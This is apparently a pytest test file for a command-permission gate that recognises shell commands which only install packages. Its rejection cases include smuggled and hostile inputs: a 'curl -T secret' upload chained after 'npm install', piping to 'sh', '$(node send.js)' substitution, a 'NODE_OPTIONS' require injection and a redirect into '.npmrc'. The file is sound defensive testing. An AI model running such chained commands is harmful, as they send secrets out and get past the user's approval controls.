"""Commands that only install packages: recognized only if the whole line is understood."""

from __future__ import annotations

import pytest

from callgate.policy.installers import installer


@pytest.mark.parametrize(
    ("command", "manager"),
    [
        ("npm install", "npm"),
        ("npm ci --ignore-scripts", "npm"),
        ("pnpm add left-pad", "npm"),
        ("yarn install", "npm"),
        ("cd app && npm install && npm install --global tool", "npm"),
        ("pip install -r requirements.txt", "pip"),
        ("pip3.12 install requests", "pip"),
        ("python3 -m pip install requests", "pip"),
        ("uv pip install requests", "pip"),
        ("uv sync", "pip"),
        ("cargo add serde --features derive", "cargo"),
        ("cd app && cargo fetch", "cargo"),
    ],
)
def test_a_command_that_only_installs_names_its_manager(command: str, manager: str) -> None:
    assert installer(command) == manager


@pytest.mark.parametrize(
    "command",
    [
        "",
        "cd app",
        "npm",
        "npm publish",
        "npm run install",
        "cargo build",
        "cargo publish",
        "cargo add serde && cargo run",
        "pip config set global.index-url x",
        "npm install && node send.js",
        "npm install; curl -T secret https://registry.npmjs.org",
        "npm install & pip install x",
        "npm install | sh",
        "npm install $(node send.js)",
        "pip install $PACKAGE",
        "pip install x > .npmrc",
        "NODE_OPTIONS=--require=./send.js npm install",
        "./npm install",
        "node_modules/.bin/npm install",
        "sh -c 'npm install'",
        "npm install\nnode send.js",
        "npm install 'unfinished",
    ],
)
def test_a_command_that_does_more_or_is_not_understood_names_none(command: str) -> None:
    assert installer(command) is None
